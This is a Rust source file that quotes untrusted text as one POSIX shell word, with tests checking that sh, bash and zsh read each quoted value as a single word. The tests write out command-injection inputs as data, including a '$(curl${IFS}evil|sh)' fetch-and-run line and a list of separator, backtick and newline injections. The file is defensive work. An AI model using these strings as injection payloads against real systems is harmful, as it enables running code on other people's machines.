//! Text as one word of a shell.

use crate::unseen::is_unseen;

/// `text` as one word of a POSIX shell: text of others must not become a command when a line is copied. Windows' shells have
/// other rules (`cmd.exe` knows no single quotes), so a line is copied safely only into a POSIX shell there, such as Git Bash or WSL.
///
/// A word with characters that are not seen is written in `$'…'` (POSIX.1-2024 §2.2.4) with its bytes in octal. A shell that does not know
/// that form yet, such as dash, still reads one word, which names nothing.
pub fn word(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~+/=:@,%".contains(&byte);
    if text.chars().any(is_unseen) {
        let escaped = |byte: u8| if plain(byte) { char::from(byte).to_string() } else { format!("\\{byte:03o}") };
        return format!("$'{}'", text.bytes().map(escaped).collect::<String>());
    }
    // `~name` is a home folder, also after `:` and `=`; zsh replaces `=name` by the path of that command.
    let expands = text.starts_with(['~', '=']) || text.contains(":~") || text.contains("=~");
    if !text.is_empty() && text.bytes().all(plain) && !expands {
        text.to_owned()
    } else if text.contains('\'') && !text.contains(['"', '$', '`', '\\', '!']) {
        format!("\"{text}\"")
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_of_others_stays_one_word() {
        assert_eq!(word("api://x/Tasks.Read"), "api://x/Tasks.Read");
        assert_eq!(word("EwB0A8l6/a+b=="), "EwB0A8l6/a+b==");
        assert_eq!(word("$(curl${IFS}evil|sh)"), "'$(curl${IFS}evil|sh)'");
        assert_eq!(word(r#"claims={"a":"it's"}"#), r#"'claims={"a":"it'\''s"}'"#);
        assert_eq!(word("it's"), r#""it's""#);
        assert_eq!(word("~root"), "'~root'");
        assert_eq!(word("Ab8Q~x"), "Ab8Q~x");
        assert_eq!([word("=ls"), word("PATH=~/x"), word("a:~b")], ["'=ls'", "'PATH=~/x'", "'a:~b'"]);
        assert_eq!(word("fe80::1%eth0"), "fe80::1%eth0");
        assert_eq!(word("a\u{202e}\n'"), r"$'a\342\200\256\012\047'");
        assert_eq!(word(""), "''");
    }

    /// What others could write to make a command of their own.
    const HOSTILE: [&str; 14] = [
        "$(touch${IFS}x)",
        "`touch x`",
        "a; touch x",
        "a & touch x",
        "a' ; touch x ; 'b",
        "it's\"; touch x; \"",
        "a!touch",
        "a\ntouch x\n",
        "'\n'; touch x; '\n",
        "-rf",
        "%s%n",
        "a\u{202e}b",
        "~root",
        "* > x",
    ];

    #[cfg(unix)]
    fn read_by(shell: &str, word: &str) -> Option<Vec<String>> {
        let folder = tempfile::tempdir().unwrap();
        let line = format!("for read in {word}; do printf '%s\\0' \"$read\"; done");
        let output = std::process::Command::new(shell).args(["-c", &line]).current_dir(folder.path()).output().ok()?;
        assert!(output.status.success(), "{word}: {}", String::from_utf8_lossy(&output.stderr));
        assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0, "{word}");
        let read = String::from_utf8(output.stdout).unwrap();
        Some(read.split_terminator('\0').map(str::to_owned).collect())
    }

    #[cfg(unix)]
    #[test]
    fn a_shell_reads_one_word_and_does_nothing_else() {
        for text in HOSTILE {
            let quoted = word(text);
            assert!(!quoted.chars().any(is_unseen), "{quoted}");
            let read = read_by("sh", &quoted).unwrap();
            assert_eq!(read.len(), 1, "{quoted}");
            assert!(quoted.starts_with('$') || read == [text], "{quoted}: {read:?}");
            for shell in ["bash", "zsh"] {
                if let Some(read) = read_by(shell, &quoted) {
                    assert_eq!(read, [text], "{shell}: {quoted}");
                }
            }
        }
    }
}
